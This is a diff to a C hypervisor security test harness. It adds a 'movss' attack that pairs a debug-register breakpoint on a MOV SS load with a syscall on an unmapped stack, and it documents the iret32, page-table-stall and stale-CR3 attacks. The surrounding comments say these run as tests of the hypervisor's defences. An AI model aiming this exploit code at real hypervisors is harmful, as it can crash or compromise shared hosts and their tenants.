@@ -6,13 +6,19 @@
  * crashed alone. Lamina-only (HARNESS): Xen boots no domU here.
  *
  *   iret32   the iret hypercall to the 32-bit code selector with a return
- *            address above 4 GiB: the hypervisor's own iretq faults.
+ *            address above 4 GiB: on hardware the hypervisor's own iretq
+ *            faults (#GP in ring 0); QEMU's TCG lets it through, so no
+ *            test runs it (docs/security.md).
  *   ptstall  pin an L4 over every free frame built as page tables: one
  *            hypercall validates millions of entries with interrupts off.
  *   stalecr3 (two CPUs) block so this CPU idles with our L4 in CR3, wake
  *            on the other CPU, switch to a new L4 and give the old one
  *            back: the idle CPU still walks the freed (then re-used,
  *            zeroed) frame for the hypervisor's own addresses.
+ *   movss    a data breakpoint on the selector "mov %ss" loads, then
+ *            syscall: the #DB the mov-SS shadow held back arrives on the
+ *            first hypervisor instruction, still on the guest's stack, on
+ *            hardware; QEMU's TCG raises it before the syscall (no test).
  *   heartbeat (not an attack: the victim) busy-loops for "secs=N" and
  *            reports the longest time it did not run; it must stay far
  *            below what a non-preemptible hypercall of another domain
@@ -191,6 +197,29 @@ static void switch_and_free_l4(pte_t **l4)
 	     (unsigned long)got, rc);
 }
 
+static volatile uint16_t ss_value = FLAT_RING3_SS64;
+
+static void attack_movss(void)
+{
+	/* DR0 on ss_value (2 bytes, read/write), enabled locally. */
+	uint64_t dr7 = 1 | (3UL << 16) | (1UL << 18);
+
+	CHECK_EQ("movss_dr0", hyp_set_debugreg(0, (unsigned long)&ss_value), 0);
+	CHECK_EQ("movss_dr7", hyp_set_debugreg(7, dr7), 0);
+	info("mov ss then syscall (xen_version) on an unmapped stack");
+	asm volatile("movq %%rsp, %%r12\n\t"
+		     "movq $0x1000, %%rsp\n\t" /* nothing mapped there */
+		     "movw %0, %%ss\n\t"
+		     "syscall\n\t"
+		     "movq %%r12, %%rsp"
+		     :
+		     : "m"(ss_value), "a"(__HYPERVISOR_xen_version), "D"(0),
+		       "S"(0)
+		     : "rcx", "r11", "r12", "memory");
+	hyp_set_debugreg(7, 0);
+	CHECK("movss_survived", 1);
+}
+
 static void attack_stalecr3(void)
 {
 	evtchn_port_t port;
@@ -238,6 +267,8 @@ void test_main(void)
 		attack_iret32();
 	else if (strstr(cmd, "attack=stalecr3"))
 		attack_stalecr3();
+	else if (strstr(cmd, "attack=movss"))
+		attack_movss();
 	else if (strstr(cmd, "attack=heartbeat"))
 		heartbeat();
 	else if (strstr(cmd, "attack=ptstall"))
